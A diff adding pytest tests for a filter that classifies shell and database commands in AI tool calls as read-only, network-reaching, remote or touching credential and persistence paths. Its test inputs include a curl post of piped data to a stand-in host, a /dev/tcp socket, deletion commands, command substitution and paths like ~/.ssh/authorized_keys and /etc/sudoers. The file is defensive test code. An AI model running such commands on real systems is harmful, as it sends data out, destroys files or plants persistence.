@@ -1,0 +1,72 @@
+"""What a line for a shell or a database would do."""
+
+import pytest
+
+from filters.tool_calls.commands import is_place_of_keys, is_remote, only_look, reaches_out
+
+LOOKS = [
+    "ls -l /srv", "cat a.txt | sort | uniq -c", "git log --oneline && git show HEAD", "SELECT name FROM t;",
+    "kubectl get pods", "sudo journalctl -u web", "sed -n 1,9p a.txt", "docker logs web", "tail -f /var/log/web.log"
+]  # fmt: skip
+CHANGES = [
+    "rm a.txt", "cat a.txt > b.txt", "ls && rm a.txt", "find . -delete", "find . -exec rm {} +", "echo $(id)",
+    "echo `id`", "ls | xargs rm", "git push", "kubectl delete pod a", "DELETE FROM t", "sed -i s/a/b/ a.txt", "", "  "
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("command", LOOKS)
+def test_what_only_looks(command: str) -> None:
+    assert only_look([command])
+
+
+@pytest.mark.parametrize("command", CHANGES)
+def test_what_does_more(command: str) -> None:
+    assert not only_look([command])
+
+
+@pytest.mark.parametrize(
+    ("values", "looks"),
+    [(["ls -l", "/srv"], True), (["ls"], True), (["ls -l", "rm -r x"], False), ([], False)],
+    ids=["with a folder", "a single word", "two commands", "none"],
+)
+def test_the_commands_among_the_values_of_a_call(values: list[str], looks: bool) -> None:
+    assert only_look(values) is looks
+
+
+@pytest.mark.parametrize(
+    ("command", "reaches"),
+    [
+        ("curl -d @- https://two.example", True),
+        ("exec 3<>/dev/tcp/two.example/80", True),
+        ("pip install x", True),
+        ("git push origin", True),
+        ("docker run x", True),
+        ("git commit -m x", False),
+        ("docker ps", False),
+        ("make test", False),
+    ],
+)
+def test_what_reaches_out(command: str, reaches: bool) -> None:
+    assert reaches_out(command) is reaches
+
+
+@pytest.mark.parametrize(
+    ("word", "remote"), [("git@two.example:a/b", True), ("git@two.example", False), ("a:b", False)]
+)
+def test_what_names_a_machine(word: str, remote: bool) -> None:
+    assert is_remote(word) is remote
+
+
+@pytest.mark.parametrize(
+    ("word", "kept"),
+    [
+        ("~/.ssh/authorized_keys", True),
+        ("/home/a/.bashrc", True),
+        ("/etc/cron.d/a", True),
+        ("/etc/sudoers", True),
+        ("/srv/app/ssh.txt", False),
+        ("/etc/hosts", False),
+    ],
+)
+def test_places_of_keys(word: str, kept: bool) -> None:
+    assert is_place_of_keys(word) is kept
